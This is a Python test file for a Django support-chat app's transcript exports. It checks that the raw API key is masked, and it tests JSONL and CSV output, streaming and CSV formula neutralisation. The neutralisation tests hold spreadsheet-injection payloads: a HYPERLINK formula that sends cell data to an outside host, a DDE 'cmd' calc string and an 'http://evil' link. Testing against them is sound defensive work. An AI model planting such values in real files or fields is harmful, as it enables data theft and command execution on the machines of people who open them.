"""Exports (JSONL for fine-tuning, CSV for spreadsheets) and the promise that no raw API key is kept."""

from __future__ import annotations

import csv
import io
import json
import logging
import uuid

import pytest
from django.contrib.auth.models import User
from django.core.management import call_command
from django.http import StreamingHttpResponse
from django.urls import reverse

from chat.models import Conversation, Turn
from chat.operators.access import roles_ensure
from chat.operators.exports import CSV_COLUMNS, EXPORT_CHUNK_SIZE
from chat.prompts import SYSTEM_PROMPT
from chat.services import conversation_start, turns_append
from chat.toolbox import get_toolbox
from tests.support.driver import run_conversation
from tickets.models import Customer

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("runtime_on_test_connection")]

# The demo key is the word "key": look for it where it would stand as a value, never the bare word.
RAW_KEY_FORMS = ['"key"', "'key'", '"api_key": "key"', "&quot;key&quot;", "&#x27;key&#x27;", "\\u0022key\\u0022"]


def assert_no_raw_key(text: str, where: str) -> None:
    for form in RAW_KEY_FORMS:
        assert form not in text, f"the raw API key ({form}) is in {where}"


@pytest.fixture
def operator_client(client, demo_data):
    roles_ensure()
    client.force_login(User.objects.get(username="operator"))
    return client


def command_output(*args: str) -> str:
    out = io.StringIO()
    call_command("export_transcripts", *args, stdout=out)
    return out.getvalue()


def streamed(response) -> str:
    assert isinstance(response, StreamingHttpResponse) and response.streaming
    return b"".join(response.streaming_content).decode()


# SECRETS NEVER KEPT


def test_the_seed_conversation_keeps_no_raw_key_anywhere(operator_client, caplog):
    caplog.set_level(logging.DEBUG, logger="chat")
    caplog.set_level(logging.DEBUG, logger="tickets")
    caplog.set_level(logging.INFO)
    conversation_id = run_conversation()
    turns = Turn.objects.filter(conversation_id=conversation_id)
    assert turns.filter(role="tool", name="verify_user", content='{"success": true}').exists()
    for turn in turns:
        assert_no_raw_key(turn.content, f"turn {turn.seq} content")
        assert_no_raw_key(json.dumps(turn.tool_calls), f"turn {turn.seq} tool_calls")
    calls = [call for turn in turns for call in turn.tool_calls or []]
    verify = next(call for call in calls if call["function"]["name"] == "verify_user")
    assert json.loads(verify["function"]["arguments"])["api_key"] == "****"
    assert turns.filter(role="user", content__contains='"****"').exists()  # the customer's own message too

    pages = {
        "the JSONL export": streamed(operator_client.get(reverse("operators:export-jsonl"))),
        "the CSV export": streamed(operator_client.get(reverse("operators:export-csv"))),
        "the JSONL command": command_output(),
        "the review list": operator_client.get(reverse("operators:conversations"), {"q": "john_doe"}).content.decode(),
        "the review timeline": operator_client.get(
            reverse("operators:conversation", args=[conversation_id])).content.decode(),
    }
    assert "****" in pages["the JSONL export"] and "****" in pages["the review timeline"]
    for where, text in pages.items():
        assert_no_raw_key(text, where)
    logged = "\n".join(record.getMessage() for record in caplog.records)
    assert_no_raw_key(logged, "the logs")


# JSONL


def test_jsonl_is_the_openai_chat_format_system_prompt_first(demo_data):
    conversation_id = run_conversation()
    lines = command_output().splitlines()
    assert len(lines) == 1
    record = json.loads(lines[0])
    assert record["id"] == str(conversation_id) and record["customer"] == "john_doe"
    assert record["tools"] == get_toolbox().schemas
    messages = record["messages"]
    assert messages[0] == {"role": "system", "content": SYSTEM_PROMPT}
    assert {m["role"] for m in messages} == {"system", "user", "assistant", "tool"}
    calls = [call for m in messages for call in m.get("tool_calls") or []]
    assert {call["function"]["name"] for call in calls} == {"verify_user", "get_ticket_status"}
    assert all(isinstance(call["function"]["arguments"], str) for call in calls)
    results = [m for m in messages if m["role"] == "tool"]
    assert {m["tool_call_id"] for m in results} == {call["id"] for call in calls}
    assert [m["content"] for m in messages if m["role"] == "user"][2] == "Yea it's: 12345"


def test_jsonl_leaves_out_error_turns(demo_data):
    conversation = conversation_start(session_key="e" * 32)
    turns_append(conversation_id=conversation.id, messages=[{"role": "error", "content": "model down"}])
    record = json.loads(command_output())
    assert [m["role"] for m in record["messages"]] == ["system"]


def test_command_filters(demo_data):
    verified = run_conversation()
    anonymous = run_conversation([])
    ids = lambda *args: [json.loads(line)["id"] for line in command_output(*args).splitlines()]  # noqa: E731
    assert ids() == [str(anonymous), str(verified)]
    assert ids("--verified") == [str(verified)]
    assert ids("--not-verified") == [str(anonymous)]
    assert ids("--search", "12345") == [str(verified)]
    assert ids("--tool", "verify_user") == [str(verified)]
    assert ids("--since", "2999-01-01") == []


def test_command_rejects_a_bad_date(demo_data):
    with pytest.raises(Exception, match="not a date"):
        command_output("--since", "yesterday")


# CSV


def test_csv_has_the_list_columns_and_tokens(operator_client):
    verified = run_conversation()
    run_conversation([])
    response = operator_client.get(reverse("operators:export-csv"), {"verified": "yes"})
    rows = list(csv.DictReader(io.StringIO(streamed(response))))
    assert list(rows[0]) == CSV_COLUMNS
    assert len(rows) == 1
    row = rows[0]
    assert row["id"] == str(verified) and row["customer"] == "john_doe" and row["outcome"] == "answered"
    assert row["tools"] == "get_ticket_status verify_user"
    stored = Turn.objects.filter(conversation_id=verified)
    assert int(row["prompt_tokens"]) == sum(t.prompt_tokens or 0 for t in stored) > 0
    assert int(row["turns"]) == stored.exclude(role="system").count()
    assert command_output("--format", "csv", "--verified").splitlines()[1].startswith(str(verified))


def test_csv_neutralises_nothing_it_should_not(operator_client):
    # A customer's words never reach the CSV: only ids, names, counts and tool names do.
    run_conversation(["=HYPERLINK(\"http://evil\")"])
    body = streamed(operator_client.get(reverse("operators:export-csv")))
    assert "HYPERLINK" not in body


FORMULA_TOOL = '=HYPERLINK("http://x/?"&A2,"Open")'
FORMULA_USERNAME = "=cmd|' /C calc'!A0"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def conversation_with_formulas() -> uuid.UUID:
    """A conversation whose customer's username and whose (invented) tool name are spreadsheet formulas."""
    customer = Customer.objects.create_user(username=FORMULA_USERNAME)
    conversation = conversation_start(session_key="f" * 32)
    Conversation.objects.filter(id=conversation.id).update(customer=customer)
    function = {"name": FORMULA_TOOL, "arguments": "{}"}
    turns_append(conversation_id=conversation.id, messages=[
        {"role": "assistant", "content": None, "tool_calls": [{"id": "c1", "type": "function", "function": function}]},
        {"role": "tool", "tool_call_id": "c1", "content": '{"error": "unknown tool"}'},
    ])
    return conversation.id


def test_csv_neutralises_formulas_in_the_download_and_the_command(operator_client):
    conversation_id = conversation_with_formulas()
    bodies = {
        "the CSV download": streamed(operator_client.get(reverse("operators:export-csv"))),
        "the CSV command": command_output("--format", "csv"),
    }
    for where, body in bodies.items():
        rows = list(csv.reader(io.StringIO(body)))
        assert rows[0] == CSV_COLUMNS, where
        row = dict(zip(CSV_COLUMNS, next(row for row in rows if row[0] == str(conversation_id)), strict=True))
        assert row["tools"] == "'" + FORMULA_TOOL, where
        assert row["customer"] == "'" + FORMULA_USERNAME, where
        assert not [cell for line in rows for cell in line if cell.startswith(FORMULA_STARTS)], where


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_every_formula_start_is_neutralised_and_numbers_stay_numbers(start):
    from chat.operators.exports import csv_line

    assert next(csv.reader([csv_line([f"{start}1+1", "plain", "", None])])) == [f"'{start}1+1", "plain", "", ""]
    # A number is safe: written as a number it stays one, negative or not; the same text is neutralised.
    assert csv_line([-3, -1.5, 0, "-3"]) == "-3,-1.5,0,'-3\r\n"


# STREAMING


def many_conversations(count: int) -> None:
    conversations = Conversation.objects.bulk_create(
        Conversation(session_key=f"{index:032d}") for index in range(count)
    )
    Turn.objects.bulk_create(
        turn
        for conversation in conversations
        for turn in (
            Turn(conversation=conversation, seq=0, role="system", content=SYSTEM_PROMPT),
            Turn(conversation=conversation, seq=1, role="user", content="hello"),
            Turn(conversation=conversation, seq=2, role="assistant", content="hi", latency_ms=5, prompt_tokens=3),
        )
    )


@pytest.mark.parametrize("name", ["operators:export-jsonl", "operators:export-csv"])
def test_exports_stream_with_queries_per_chunk_not_per_row(operator_client, name, django_assert_max_num_queries):
    count = EXPORT_CHUNK_SIZE * 2 + 50  # three chunks
    many_conversations(count)
    response = operator_client.get(reverse(name))
    assert isinstance(response, StreamingHttpResponse) and response.streaming
    assert response["Content-Disposition"].startswith("attachment;")
    chunks = iter(response.streaming_content)
    # session and user to serve the request, then per chunk: the chunk and its turns
    with django_assert_max_num_queries(3 * 2 + 2):
        body = b"".join(chunks).decode()
    lines = body.splitlines()
    assert len(lines) == count + (1 if name.endswith("csv") else 0)


def test_jsonl_lines_are_generated_lazily(demo_data, django_assert_num_queries):
    from chat.operators.exports import jsonl_lines
    from chat.operators.selectors import conversations_matching

    many_conversations(EXPORT_CHUNK_SIZE + 10)
    with django_assert_num_queries(0):
        lines = jsonl_lines(conversations=conversations_matching())
    with django_assert_num_queries(2):  # the first chunk and its turns
        first = next(lines)
    assert json.loads(first)["messages"][1] == {"role": "user", "content": "hello"}


@pytest.mark.django_db(transaction=True)
async def test_exports_stream_asynchronously_under_asgi(async_client):
    from asgiref.sync import sync_to_async

    @sync_to_async
    def prepare() -> str:
        call_command("seed_demo", password="demo-password-1", stdout=io.StringIO())
        roles_ensure()
        many_conversations(EXPORT_CHUNK_SIZE + 5)
        return str(uuid.uuid4())

    await prepare()
    await async_client.aforce_login(await User.objects.aget(username="operator"))
    response = await async_client.get(reverse("operators:export-jsonl"))
    assert response.streaming and response.is_async
    body = b"".join([chunk async for chunk in response.streaming_content]).decode()
    assert len(body.splitlines()) == EXPORT_CHUNK_SIZE + 5
    # The body was read here, not by a server that ends the request: the sync thread's connection, which
    # Django's request_finished would have closed, is closed by hand (else PostgreSQL's test database is
    # still in use when the run drops it).
    from django.db import connections

    await sync_to_async(connections.close_all)()


def test_a_reader_that_stops_early_ends_the_export_quietly(tmp_path):
    """``export_transcripts | head``: the pipe closes after the first lines; the command stops without a
    traceback and exits 0."""
    import os
    import subprocess
    import sys

    from django.conf import settings

    database = tmp_path / "db.sqlite3"
    environment = {**os.environ, "DATABASE_URL": f"sqlite:///{database}", "REDIS_URL": ""}
    manage = [sys.executable, str(settings.BASE_DIR / "manage.py")]
    subprocess.run([*manage, "migrate", "--noinput"], env=environment, check=True, capture_output=True)
    conversations = "\n".join([
        "from chat import services",
        "for _ in range(400):",
        "    conversation = services.conversation_start(session_key='x')",
        "    services.turns_append(conversation_id=conversation.id, messages=[",
        "        {'role': 'user', 'content': 'hello ' * 50}, {'role': 'assistant', 'content': 'hi ' * 50}])",
    ])
    subprocess.run([*manage, "shell", "-c", conversations], env=environment, check=True, capture_output=True)
    export = subprocess.Popen([*manage, "export_transcripts"], env=environment, stdout=subprocess.PIPE,
                              stderr=subprocess.PIPE)
    first = export.stdout.readline()
    export.stdout.close()  # the reader is gone, as ``head -1`` would be
    errors = export.stderr.read().decode()
    assert export.wait(timeout=60) == 0, errors
    assert first.startswith(b"{") and "Traceback" not in errors, errors
